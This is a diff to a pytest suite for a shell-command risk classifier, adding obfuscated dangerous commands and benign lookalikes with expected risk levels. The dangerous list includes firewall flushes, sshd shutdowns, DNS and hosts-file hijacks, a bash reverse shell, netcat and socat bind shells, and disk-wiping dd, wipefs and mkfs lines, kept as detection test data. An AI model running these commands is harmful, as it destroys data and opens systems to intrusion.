@@ -884,11 +884,94 @@ SECOND_BENIGN = [
 ]
 
 
-@pytest.mark.parametrize(("command", "least"), DANGEROUS + SECOND_DANGEROUS)
+# Third batch: the same families spelt through wrappers (doas, pkexec, env, nohup, timeout,
+# nice, systemd-run), full paths, quotes and backslashes, ssh, loops and xargs over listings,
+# and prompts answered from a pipe.
+THIRD_DANGEROUS = [
+    ("/usr/sbin/iptables -F", HIGH),
+    ("doas iptables --flush", HIGH),
+    ("pkexec /sbin/iptables -P INPUT ACCEPT", HIGH),
+    ("sudo -u root nft flush ruleset", HIGH),
+    ("sudo env PATH=/usr/sbin:$PATH ufw disable", HIGH),
+    ("timeout 5 sudo ufw --force disable", HIGH),
+    ("nohup sudo systemctl stop firewalld &", HIGH),
+    ("sudo -i sh -c 'iptables -F && iptables -P INPUT ACCEPT'", HIGH),
+    ("ssh root@gw 'iptables -F; iptables -X'", HIGH),
+    ("ssh admin@host sudo ufw disable", HIGH),
+    ("echo y | sudo ufw reset", HIGH),
+    ("for t in filter nat mangle raw; do sudo iptables -t $t -F; done", HIGH),
+    ("sudo \\iptables -F", HIGH),
+    ("sudo 'iptables' -F", HIGH),
+    ("sudo /sbin/ip link set $(ip route show default | awk '{print $5}') down", HIGH),
+    ("sudo ip l s eth0 down", HIGH),
+    ("sudo ip link set eth0 down; sleep 60; sudo ip link set eth0 up", HIGH),
+    ("sudo ifconfig $(route -n | awk '/^0.0.0.0/{print $8}') down", HIGH),
+    ("sudo systemctl stop sshd", HIGH),
+    ("sudo systemctl disable --now ssh", HIGH),
+    ("sudo service networking stop", HIGH),
+    ("sudo killall dhclient", MODERATE),
+    ("sudo sh -c 'echo nameserver 203.0.113.53 > /etc/resolv.conf'", HIGH),
+    ("sudo bash -c \"cat > /etc/resolv.conf <<< 'nameserver 198.51.100.1'\"", HIGH),
+    ("echo '203.0.113.9 api.github.com' | sudo tee --append /etc/hosts >/dev/null", HIGH),
+    ("sudo cp hosts.evil /etc/hosts", HIGH),
+    ("bash -i >& /dev/tcp/0.0.0.0/4444 0>&1", CRITICAL),
+    ("sudo ncat -k -l -p 23 -e /bin/login", CRITICAL),
+    ("socat TCP-LISTEN:23,fork EXEC:/bin/login,pty", CRITICAL),
+    ("nohup nc -lk -p 9999 -e /bin/sh >/dev/null 2>&1 &", CRITICAL),
+    ("sudo \\dd if=/dev/zero of=/dev/sda", CRITICAL),
+    ("sudo /bin/dd if=/dev/zero of=/dev/sda", CRITICAL),
+    ("doas dd if=/dev/zero of=/dev/sda bs=1M", CRITICAL),
+    ("sudo -- dd if=/dev/zero of=/dev/sdb", CRITICAL),
+    ("sudo dd if=/dev/zero 'of=/dev/sda'", CRITICAL),
+    ('sudo dd if=/dev/zero of=/dev/s"d"a', CRITICAL),
+    ("for d in /dev/sd?; do sudo wipefs -a $d; done", CRITICAL),
+    ("ls /dev/sd* | xargs -n1 sudo wipefs -a", CRITICAL),
+    ("lsblk -dno NAME | xargs -I{} sudo dd if=/dev/zero of=/dev/{} bs=1M count=10", CRITICAL),
+    ("sudo find /dev -name 'sd?' -exec wipefs -a {} \\;", CRITICAL),
+    ("sudo mkfs.ext4 -q -F /dev/sda", CRITICAL),
+    ("sudo /sbin/mkfs.xfs -f /dev/sdb", CRITICAL),
+    ("sudo mkfs --type=ext4 /dev/sdc", CRITICAL),
+    ("sudo env LANG=C parted -s /dev/sda mklabel gpt", CRITICAL),
+    ("sudo nice -n 19 shred -n1 /dev/sdb", CRITICAL),
+    ("sudo ionice -c3 dd if=/dev/zero of=/dev/sdb", CRITICAL),
+    ("sudo systemd-run --wait dd if=/dev/zero of=/dev/sdb", CRITICAL),
+    ("sudo zpool destroy -f $(zpool list -Ho name)", CRITICAL),
+]
+
+THIRD_BENIGN = [
+    ("/usr/sbin/iptables -L -n", MODERATE),
+    ("doas iptables -S", MODERATE),
+    ("sudo \\iptables -L", MODERATE),
+    ("ssh root@gw 'iptables -L -n -v'", MODERATE),
+    ("ssh admin@host sudo ufw status", MODERATE),
+    ("sudo ip l s eth1 up", MODERATE),
+    ("ip route show default | awk '{print $5}'", SAFE),
+    ("sudo systemctl status sshd", MODERATE),
+    ("sudo systemctl restart sshd", MODERATE),
+    ("sudo systemctl reload nftables", MODERATE),
+    ("sudo killall -HUP dnsmasq", MODERATE),
+    ("cat /etc/resolv.conf | grep nameserver", SAFE),
+    ("sudo cp /etc/hosts ~/hosts.bak", MODERATE),
+    ("nc -zv 10.0.0.5 22", MODERATE),
+    ("nohup python3 -m http.server 8000 --bind 127.0.0.1 &", MODERATE),
+    ("sudo /bin/dd if=/dev/sda of=/dev/null bs=1M count=100", MODERATE),
+    ("sudo dd if=/dev/sda bs=512 count=1 of=mbr.bak", MODERATE),
+    ("ls /dev/sd* | xargs -n1 sudo blkid", MODERATE),
+    ("for d in /dev/sd?; do sudo smartctl -H $d; done", MODERATE),
+    ("sudo find /dev -name 'sd?' -exec smartctl -i {} \\;", MODERATE),
+    ("lsblk -dno NAME | xargs -I{} cat /sys/block/{}/queue/rotational", SAFE),
+    ("sudo env LANG=C parted -s /dev/sda print", MODERATE),
+    ("sudo nice -n 19 badblocks -sv /dev/sdb", MODERATE),
+    ("sudo zpool status $(zpool list -Ho name)", MODERATE),
+    ("zpool list -Ho name | xargs -n1 sudo zpool scrub", MODERATE),
+]
+
+
+@pytest.mark.parametrize(("command", "least"), DANGEROUS + SECOND_DANGEROUS + THIRD_DANGEROUS)
 def test_dangerous(command: str, least: RiskLevel) -> None:
     reaches(command, least)
 
 
-@pytest.mark.parametrize(("command", "highest"), BENIGN + SECOND_BENIGN)
+@pytest.mark.parametrize(("command", "highest"), BENIGN + SECOND_BENIGN + THIRD_BENIGN)
 def test_benign(command: str, highest: RiskLevel) -> None:
     stays_within(command, highest)
